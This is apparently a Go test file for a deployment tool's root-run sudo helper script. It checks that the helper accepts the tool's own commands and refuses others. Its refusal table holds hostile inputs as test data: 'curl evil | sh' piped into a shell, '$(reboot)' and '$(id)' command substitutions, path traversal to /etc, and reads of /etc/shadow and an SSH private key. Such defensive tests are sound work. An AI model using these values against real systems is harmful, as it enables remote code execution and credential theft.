package deployer

import (
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/rollout-dev/rollout/internal/testenv"
	"github.com/rollout-dev/rollout/sshexec"
)

// helperConfig is an app with releases, a prepare step, shared paths and
// log files of its own, its state under dir.
func helperConfig(t *testing.T, dir string) *Config {
	t.Helper()
	cfg, err := ParseConfig("rollout.yaml", []byte(`
app: my-app
hosts: [10.0.0.5]
ssh: {user: deploy}
sudo: helper
ports: [3000, 3001]
state_dir: `+dir+`/state
logs: ["/var/log/my-app-extra/{port}.log"]
nginx: {upstream_file: /etc/nginx/conf.d/my-app-upstream.conf, upstream: my_app}
release:
  root: `+dir+`/srv
  prepare: npm ci --omit=dev
  shared: [node_modules, uploads]
  migrate: npm run migrate
workers:
  - {unit: my-app-worker, count: 2}
`))
	if err != nil {
		t.Fatal(err)
	}
	return cfg
}

// helperHere writes cfg's helper to a file, with each script verb only
// saying it would run: what the helper accepts and refuses, here, without
// root.
func helperHere(t *testing.T, cfg *Config) (path, id string) {
	t.Helper()
	text, id := cfg.helperWith(func(verb string) string { return `echo accepted ` + verb + `; printf '%s\n' "$@"; exit 0` })
	path = filepath.Join(t.TempDir(), "helper")
	if err := os.WriteFile(path, []byte(text), 0o755); err != nil {
		t.Fatal(err)
	}
	return path, id
}

func runHelper(t *testing.T, path string, args ...string) (string, int) {
	t.Helper()
	return runCommand(t, sshexec.QuoteCommand(append([]string{"sh", path}, args...)...), "")
}

// Every privileged command the remote builds with sudo: helper is a call
// of the helper that it accepts: the Go side and the helper agree on
// every verb's arguments.
func TestHelperAcceptsWhatRolloutSends(t *testing.T) {
	dir := t.TempDir()
	cfg := helperConfig(t, dir)
	path, id := helperHere(t, cfg)
	r := newSSHRemote(cfg, nil)
	up := cfg.Nginx
	logs := []string{"/var/log/my-app/stdout-3000.log", "/var/log/my-app-extra/3000.log"}
	mark := restartMark{clock: 1764930000123456, offsets: map[string]int64{logs[0]: 10, logs[1]: 0}}
	entry := ReleaseEntry{ID: "20261205120000-v2", Version: "v2", SHA256: strings.Repeat("ab", 32), Time: time.Now()}
	cmds := map[string]string{
		"preflight":      r.cmdPreflight([]int{3000, 3001}),
		"check nginx":    r.cmdNginxCheck(up),
		"drain":          r.cmdWriteUpstream(up, []int{3001}, true),
		"undrain":        r.cmdWriteUpstream(up, nil, false),
		"restart":        r.cmdRestart(3000, logs, ""),
		"switch+restart": r.cmdRestart(3001, logs, entry.ID),
		"app output":     r.cmdAppOutput("my-app@3000", mark, 20),
		"lock":           r.cmdAcquireLock(true, "0123abcd"),
		"refresh":        r.cmdRefreshLock("0123abcd"),
		"unlock":         r.cmdReleaseLock("0123abcd"),
		"lock status":    r.cmdLockStatus(),
		"history":        r.cmdAppendHistory(),
		"read history":   r.cmdReadHistory(50),
		"releases":       r.cmdReleaseState([]int{3000, 3001}, cfg.WorkerUnits()),
		"upload":         r.cmdUpload(entry),
		"switch":         r.cmdSwitch(3000, entry.ID),
		"record":         r.cmdRecordRelease([]ReleaseEntry{entry, entry}, entry.ID, []string{"20261201120000-v1"}),
		"access log":     r.cmdReadAccessLog(cfg.AccessLogFile(), logPos{inode: "1234", offset: 99}, 1764930000, []int{3000, 3001}),
		"access log end": r.cmdReadAccessLog(cfg.AccessLogFile(), logPos{offset: -1}, 0, nil),
		"secrets":        r.cmdWriteSecrets(entry.ID),
		"read secrets":   r.cmdReadSecrets(),
		"migrate":        r.cmdMigrate(entry.ID),
		"exec":           r.cmdExec(cfg.Release.Root+"/releases/"+entry.ID, entry.ID, "rollout-exec-my-app-0a1b2c3d4e5f", "pipe", []string{"sh", "-c", "echo \"$1\"; id", "sh", "a 'b' $c"}),
		"exec check":     r.cmdExec(cfg.Release.Root+"/releases/"+entry.ID, entry.ID, "rollout-exec-my-app-0a1b2c3d4e5f", "check", []string{"node"}),
		"exec -t":        r.cmdExec(cfg.Release.Root+"/releases/"+entry.ID, entry.ID, "rollout-exec-my-app-0a1b2c3d4e5f", "tty", []string{"node"}),
		"exec stop":      r.cmdExecStop("rollout-exec-my-app-0a1b2c3d4e5f"),
		"worker restart": r.cmdRestartUnit("my-app-worker@2", "my-app-worker@2", []string{"/var/log/my-app/my-app-worker-2.log"}, entry.ID),
		"worker output":  r.cmdAppOutput("my-app-worker@1", mark, 20),
	}
	_, real := cfg.helper()
	prefix := "sudo -n " + cfg.HelperPath() + " " + real + " "
	for name, cmd := range cmds {
		rest, ok := strings.CutPrefix(cmd, prefix)
		if !ok {
			t.Errorf("%s: not a call of the helper: %.120s", name, cmd)
			continue
		}
		out, code := runCommand(t, "sh '"+path+"' "+id+" "+rest, "")
		if code != 0 || !strings.HasPrefix(out, "accepted ") {
			t.Errorf("%s: the helper said (exit %d):\n%s", name, code, out)
			continue
		}
		// The script gets the arguments as they were sent.
		verb, args, _ := strings.Cut(rest, " ")
		want, _ := runCommand(t, `printf '%s\n' `+args, "")
		if got := strings.SplitN(out, "\n", 2)[1]; got != want || !strings.HasPrefix(out, "accepted "+verb+"\n") {
			t.Errorf("%s: the script would get\n%s\nnot what was sent:\n%s", name, got, want)
		}
	}
	// The one-command verbs are the helper's too (run on the testbed).
	for name, cmd := range map[string]string{"start": r.cmdStart(3000), "stop": r.cmdStop(3001, 3002), "enable": r.cmdEnable(3002)} {
		if !strings.HasPrefix(cmd, prefix+name+" my-app@") {
			t.Errorf("%s: %s", name, cmd)
		}
	}
	for _, src := range r.cmdLogSources("my-app@3000", "10.0.0.5:3000", logs, LogsOptions{Lines: 10, Follow: true, Since: "10 min ago"}) {
		if !strings.HasPrefix(src.cmd, prefix+"journal ") && !strings.HasPrefix(src.cmd, prefix+"tail ") {
			t.Errorf("logs: %s", src.cmd)
		}
	}
}

// What is not this app's is refused, before anything runs, with a reason.
func TestHelperRefuses(t *testing.T) {
	dir := t.TempDir()
	cfg := helperConfig(t, dir)
	path, id := helperHere(t, cfg)
	lock := dir + "/state/my-app"
	root := dir + "/srv"
	sum := strings.Repeat("ab", 32)
	cases := map[string][]string{
		"another unit":                 {"start", "ssh.service"},
		"another unit to restart":      {"restart", "ssh.service", unitProps, "", "", ""},
		"a port out of range":          {"stop", "my-app@22"},
		"one unit of several outside":  {"stop", "my-app@3000", "ssh.service"},
		"another unit to enable":       {"enable", "ssh.service"},
		"a port that is no number":     {"start", "my-app@3000;id"},
		"another app's unit":           {"start", "other@3000"},
		"another upstream file":        {"write-upstream", "/etc/passwd", "nginx -t", "", "/run/nginx.pid", "100"},
		"another test command":         {"write-upstream", cfg.Nginx.UpstreamFile, "touch /tmp/pwned", "", "/run/nginx.pid", "100"},
		"another nginx check":          {"preflight", "sh -c id", cfg.Nginx.UpstreamFile},
		"a drained port outside":       {"write-upstream", cfg.Nginx.UpstreamFile, cfg.Nginx.TestCommand, "", cfg.Nginx.PIDFile, "100", "22"},
		"a release with a slash":       {"release-switch", root, "3000", "../../etc"},
		"a release of dots":            {"release-switch", root, "3000", ".."},
		"another release root":         {"release-switch", "/etc", "3000", "x"},
		"a release to remove with ..":  {"release-record", root, "", "", "../instances"},
		"a log line that is no JSON":   {"release-record", root, "not json", ""},
		"another prepare command":      {"release-upload", root, "20261205120000-v2", sum, "my-app", "www-data", "600", "curl evil | sh", "{}", "node_modules", "uploads"},
		"another user":                 {"release-upload", root, "20261205120000-v2", sum, "root", "www-data", "600", "npm ci --omit=dev", "{}", "node_modules", "uploads"},
		"other shared paths":           {"release-upload", root, "20261205120000-v2", sum, "my-app", "www-data", "600", "npm ci --omit=dev", "{}", "../../etc"},
		"a bad checksum":               {"release-upload", root, "20261205120000-v2", "$(id)", "my-app", "www-data", "600", "npm ci --omit=dev", "{}", "node_modules", "uploads"},
		"another lock directory":       {"lock-status", "/etc"},
		"another history file":         {"history-append", "/etc/cron.d/x"},
		"a token with a shell":         {"lock-release", lock, "$(reboot)"},
		"a log outside the logs":       {"tail", "10", "0", "/etc/shadow"},
		"a log with ..":                {"tail", "10", "0", "/var/log/my-app/../../../etc/shadow"},
		"a log beside the log dir":     {"tail", "10", "0", "/var/log/my-app2/x.log"},
		"app output of /etc/shadow":    {"app-output", "my-app@3000", "20", "", "0", "/etc/shadow"},
		"a restart log elsewhere":      {"restart", "my-app@3000", unitProps, "", "", "", "/root/.ssh/id_ed25519"},
		"another restart port":         {"restart", "my-app@3000", unitProps, root, "3001", "20261205120000-v2"},
		"another access log":           {"access-read", "/etc/shadow", "", "0", "100", "0"},
		"a journal of another unit":    {"journal", "10", "0", "ssh.service"},
		"a journal since a shell":      {"journal", "10", "0", "my-app@3000", "$(id)"},
		"secrets of another unit":      {"release-secrets", root, "20261205120000-v2", "ssh.service"},
		"secrets in another root":      {"release-secrets", "/etc", "20261205120000-v2", "my-app@3000"},
		"secrets of release ..":        {"release-secrets", root, "..", "my-app@3000"},
		"secrets of a release path":    {"release-secrets", root, "x/../../etc", "my-app@3000"},
		"another migrate command":      {"release-migrate", root, "20261205120000-v2", "my-app", "www-data", "600", "/etc/my-app/.env", "curl evil | sh"},
		"a migrate as root":            {"release-migrate", root, "20261205120000-v2", "root", "www-data", "600", "/etc/my-app/.env", "npm run migrate"},
		"a migrate with another env":   {"release-migrate", root, "20261205120000-v2", "my-app", "www-data", "600", "/etc/shadow", "npm run migrate"},
		"a migrate of release ..":      {"release-migrate", root, "..", "my-app", "www-data", "600", "/etc/my-app/.env", "npm run migrate"},
		"an exec as root":              {"exec", root + "/releases/20261205120000-v2", "20261205120000-v2", "root", "www-data", "/etc/my-app/.env", "rollout-exec-my-app-0a1b2c3d4e5f", "pipe", "id"},
		"an exec elsewhere":            {"exec", "/etc", "20261205120000-v2", "my-app", "www-data", "/etc/my-app/.env", "rollout-exec-my-app-0a1b2c3d4e5f", "pipe", "id"},
		"an exec in release ..":        {"exec", root + "/releases/..", "..", "my-app", "www-data", "/etc/my-app/.env", "rollout-exec-my-app-0a1b2c3d4e5f", "pipe", "id"},
		"an exec with another env":     {"exec", root + "/releases/20261205120000-v2", "20261205120000-v2", "my-app", "www-data", "/etc/shadow", "rollout-exec-my-app-0a1b2c3d4e5f", "pipe", "id"},
		"an exec as another unit":      {"exec", root + "/releases/20261205120000-v2", "20261205120000-v2", "my-app", "www-data", "/etc/my-app/.env", "ssh", "pipe", "id"},
		"an exec in another mode":      {"exec", root + "/releases/20261205120000-v2", "20261205120000-v2", "my-app", "www-data", "/etc/my-app/.env", "rollout-exec-my-app-0a1b2c3d4e5f", "root", "id"},
		"an exec with no command":      {"exec", root + "/releases/20261205120000-v2", "20261205120000-v2", "my-app", "www-data", "/etc/my-app/.env", "rollout-exec-my-app-0a1b2c3d4e5f", "pipe"},
		"an exec-stop of ssh":          {"exec-stop", "ssh.service"},
		"an exec-stop of another app":  {"exec-stop", "rollout-exec-other-0a1b2c3d4e5f"},
		"a worker beyond its count":    {"restart", "my-app-worker@3", unitProps, "", "", ""},
		"another app's worker":         {"restart", "other-worker@1", unitProps, "", "", ""},
		"a worker's link elsewhere":    {"restart", "my-app-worker@1", unitProps, root, "my-app-worker@2", "20261205120000-v2"},
		"a worker as a release state":  {"release-state", root, "my-app-worker@1", "my-app-worker@2"},
		"an exec-stop of my-app-api's": {"exec-stop", "rollout-exec-my-app-api-0a1b2c3d4e5f"},
		"an exec-stop, short token":    {"exec-stop", "rollout-exec-my-app-0a1b2c"},
		"secrets read elsewhere":       {"secrets-read", "/etc"},
		"secrets read, more":           {"secrets-read", root, "/etc/shadow"},
		"an unknown verb":              {"sh", "-c", "id"},
		"setup's script":               {"setup-apply", "user", "x"},
		"too many arguments":           {"lock-status", lock, "extra"},
		"too few arguments":            {"release-switch", root},
	}
	for name, args := range cases {
		out, code := runHelper(t, path, append([]string{id}, args...)...)
		if code != exitRefused || !strings.Contains(out, "refused: ") || strings.Contains(out, "accepted") {
			t.Errorf("%s: exit %d (want %d, refused)\n%s", name, code, exitRefused, out)
		}
	}
	// A caller expecting another helper is told to run setup.
	if out, code := runHelper(t, path, "0000000000000000", "lock-status", lock); code != exitHelperStale || !strings.Contains(out, "run rollout setup") {
		t.Errorf("stale: exit %d\n%s", code, out)
	}
	if out, code := runHelper(t, path); code != exitRefused {
		t.Errorf("no arguments: exit %d\n%s", code, out)
	}
}

// instances: auto: the helper's ports are the host's cores from base_port.
func TestHelperPortsAuto(t *testing.T) {
	cfg, err := ParseConfig("rollout.yaml", []byte("app: my-app\nhosts: [10.0.0.5]\nssh: {user: deploy}\nsudo: helper\nbase_port: 4000\ninstances: auto\nnginx: {upstream_file: /etc/nginx/conf.d/my-app-upstream.conf, upstream: my_app}\n"))
	if err != nil {
		t.Fatal(err)
	}
	path, id := helperHere(t, cfg)
	out, _ := runCommand(t, "nproc", "")
	cores, err := strconv.Atoi(strings.TrimSpace(out))
	if err != nil {
		t.Fatalf("nproc: %q", out)
	}
	last := 4000 + cores - 1
	for port, ok := range map[int]bool{4000: true, last: true, last + 1: false, 3999: false} {
		out, code := runHelper(t, path, id, "access-read", cfg.AccessLogFile(), "", "0", "10", "0", cfg.UnitName(port))
		if (code == 0) != ok {
			t.Errorf("port %d: exit %d, want accepted %v\n%s", port, code, ok, out)
		}
	}
}

// The helper setup installs passes shellcheck, scripts included, and its
// id changes with what it checks.
func TestHelperRendered(t *testing.T) {
	cfg := helperConfig(t, t.TempDir())
	text, id := cfg.helper()
	if !strings.HasPrefix(text, "#!/bin/sh\n") || !strings.Contains(text, "HELPER_ID="+id+"\n") {
		t.Fatalf("head: %.200s", text)
	}
	files := cfg.helperFiles()
	if len(files) != 2 || files[0].Path != "/usr/local/lib/rollout/my-app" || files[0].Owner != "root:root" || files[0].Mode != "755" ||
		files[1].Path != "/etc/sudoers.d/rollout-my-app" || files[1].Mode != "440" || files[1].check != checkSudoers {
		t.Fatalf("files: %+v", files)
	}
	if want := "deploy ALL=(root) NOPASSWD: /usr/local/lib/rollout/my-app\n"; !strings.HasSuffix(files[1].Content, want) {
		t.Errorf("sudoers:\n%s\nwant it to end with %q", files[1].Content, want)
	}
	other := helperConfig(t, t.TempDir())
	other.Release.Prepare = "npm ci"
	if _, id2 := other.helper(); id2 == id {
		t.Error("a helper with another prepare command has the same id")
	}
	dotted := helperConfig(t, t.TempDir())
	dotted.App = "my.app"
	if f := dotted.SudoersFile(); f != "/etc/sudoers.d/rollout-my_app" {
		t.Errorf("sudo skips files with dots: %s", f)
	}
	testenv.NeedCommand(t, "shellcheck")
	p := filepath.Join(t.TempDir(), "helper")
	if err := os.WriteFile(p, []byte(text), 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("shellcheck", "-s", "sh", "-S", "warning", p).CombinedOutput(); err != nil {
		t.Errorf("shellcheck: %v\n%s", err, out)
	}
}

// sudo: helper needs a deploy user that is not root, and with lb: the
// ports listed.
func TestHelperConfig(t *testing.T) {
	for name, tc := range map[string]struct{ yaml, want string }{
		"root":                                   {"ssh: {user: root}\n", "helper needs the user it lets run the helper"},
		"no user":                                {"", "helper needs the user it lets run the helper"},
		"lb":                                     {"ssh: {user: deploy}\nlb: {hosts: [10.0.0.9]}\n", ""},
		"deploy_user root ok with ssh user root": {"ssh: {user: root}\nsetup: {deploy_user: deploy}\n", ""},
	} {
		_, err := ParseConfig("rollout.yaml", []byte("app: my-app\nhosts: [10.0.0.5]\nports: [3000]\nsudo: helper\nnginx: {upstream_file: /etc/nginx/conf.d/my-app-upstream.conf, upstream: my_app}\n"+tc.yaml))
		if tc.want == "" && err != nil || tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)) {
			t.Errorf("%s: %v, want %q", name, err, tc.want)
		}
	}
}

// With strategy.max_surge the helper takes both ports of every slot: the
// configured ones and the spare ones after them (with instances: auto,
// twice the host's cores from base_port).
func TestHelperPortsSurge(t *testing.T) {
	out, _ := runCommand(t, "nproc", "")
	cores, err := strconv.Atoi(strings.TrimSpace(out))
	if err != nil {
		t.Fatalf("nproc: %q", out)
	}
	for instances, last := range map[string]int{"2": 4003, "auto": 4000 + 2*cores - 1} {
		cfg, err := ParseConfig("rollout.yaml", []byte("app: my-app\nhosts: [10.0.0.5]\nssh: {user: deploy}\nsudo: helper\nbase_port: 4000\ninstances: "+instances+"\nstrategy: {max_surge: 100%}\nnginx: {upstream_file: /etc/nginx/conf.d/my-app-upstream.conf, upstream: my_app}\n"))
		if err != nil {
			t.Fatal(err)
		}
		path, id := helperHere(t, cfg)
		for port, ok := range map[int]bool{4000: true, last: true, last + 1: false} {
			// stop runs systemctl itself (not here): only whether the
			// helper refused counts.
			out, code := runHelper(t, path, id, "stop", cfg.UnitName(4000), cfg.UnitName(port))
			if (code != exitRefused) != ok {
				t.Errorf("instances %s, port %d: exit %d, want accepted %v\n%s", instances, port, code, ok, out)
			}
		}
	}
}

// The helper wakes and puts servers in maintenance only for
// strategy.max_surge's idle ports.
func TestHelperHAProxyIdleItemsNeedSurge(t *testing.T) {
	for _, surge := range []bool{false, true} {
		y := "app: my-app\nhosts: [10.0.0.5]\nssh: {user: deploy}\nsudo: helper\nbase_port: 4000\ninstances: 2\nhaproxy: {backend: app}\n"
		if surge {
			y += "strategy: {max_surge: 100%}\n"
		}
		cfg, err := ParseConfig("rollout.yaml", []byte(y))
		if err != nil {
			t.Fatal(err)
		}
		path, id := helperHere(t, cfg)
		out, code := runHelper(t, path, id, "haproxy", cfg.HAProxy.Socket, "app", "30000", "apply", "wake:my-app-4002", "maint:my-app-4000")
		if (code != exitRefused) != surge {
			t.Errorf("max_surge %v: exit %d\n%s", surge, code, out)
		}
	}
}

// With traefik:, the helper writes only Traefik's file, with nothing to
// test or signal: the write the balancer sends is accepted, one naming
// Nginx's file or commands is refused.
func TestHelperTraefikWritesOnlyItsFile(t *testing.T) {
	cfg, err := ParseConfig("rollout.yaml", []byte("app: my-app\nhosts: [10.0.0.5]\nssh: {user: deploy}\nsudo: helper\nbase_port: 4000\ninstances: 2\ntraefik: {}\n"))
	if err != nil {
		t.Fatal(err)
	}
	path, id := helperHere(t, cfg)
	r := newSSHRemote(cfg, nil)
	_, real := cfg.helper()
	prefix := "sudo -n " + cfg.HelperPath() + " " + real + " "
	for name, tc := range map[string]struct {
		n  NginxConfig
		ok bool
	}{
		"traefik's file":  {traefikFileNginx(cfg.Traefik), true},
		"nginx's reload":  {NginxConfig{UpstreamFile: cfg.Traefik.File, TestCommand: "true", ReloadCommand: "systemctl reload nginx"}, false},
		"another file":    {NginxConfig{UpstreamFile: "/etc/traefik/dynamic/other.yml", TestCommand: "true", ReloadCommand: "true"}, false},
		"nginx's default": {DefaultConfig().Nginx, false},
	} {
		rest, ok := strings.CutPrefix(r.cmdWriteUpstream(tc.n, []int{4001}, true), prefix)
		if !ok {
			t.Fatalf("%s: not a call of the helper", name)
		}
		out, code := runCommand(t, "sh '"+path+"' "+id+" "+rest, "")
		if (code == 0 && strings.HasPrefix(out, "accepted write-upstream")) != tc.ok {
			t.Errorf("%s: exit %d, want accepted %v\n%s", name, code, tc.ok, out)
		}
	}
}

// The one-command verbs run systemctl and end there: stop (disable --now,
// then reset-failed) exits with systemctl's status, never falling through
// to the script verbs. Run with a systemctl that only logs its arguments
// first in the helper's own PATH.
func TestHelperUnitVerbsRunSystemctl(t *testing.T) {
	cfg := helperConfig(t, t.TempDir())
	bin := t.TempDir()
	text, id := cfg.helper()
	const path0 = "\nPATH=/usr/local/sbin:"
	if !strings.Contains(text, path0) {
		t.Fatal("the helper sets no PATH")
	}
	path := filepath.Join(bin, "helper")
	if err := os.WriteFile(path, []byte(strings.Replace(text, path0, "\nPATH="+bin+":/usr/local/sbin:", 1)), 0o755); err != nil {
		t.Fatal(err)
	}
	log := filepath.Join(bin, "calls")
	fake := "#!/bin/sh\necho \"$*\" >> " + log + "\n[ \"$1 $2\" != 'disable --no-reload' ] || [ ! -e " + bin + "/fail ] || exit 5\n"
	if err := os.WriteFile(filepath.Join(bin, "systemctl"), []byte(fake), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		verb, want string
		fail       bool
		code       int
	}{
		{"start", "enable --no-reload --now -- my-app@3000 my-app@3001\n", false, 0},
		{"enable", "enable --no-reload -- my-app@3000 my-app@3001\n", false, 0},
		{"stop", "disable --no-reload --now -- my-app@3000 my-app@3001\nreset-failed -- my-app@3000 my-app@3001\n", false, 0},
		{"stop", "disable --no-reload --now -- my-app@3000 my-app@3001\n", true, 5},
	} {
		os.Remove(log)
		os.Remove(filepath.Join(bin, "fail"))
		if tc.fail {
			os.WriteFile(filepath.Join(bin, "fail"), nil, 0o644)
		}
		out, code := runHelper(t, path, id, tc.verb, "my-app@3000", "my-app@3001")
		calls, _ := os.ReadFile(log)
		if code != tc.code || string(calls) != tc.want {
			t.Errorf("%s (systemctl failing %v): exit %d, want %d; systemctl ran:\n%s\nwant:\n%s\n%s", tc.verb, tc.fail, code, tc.code, calls, tc.want, out)
		}
	}
}
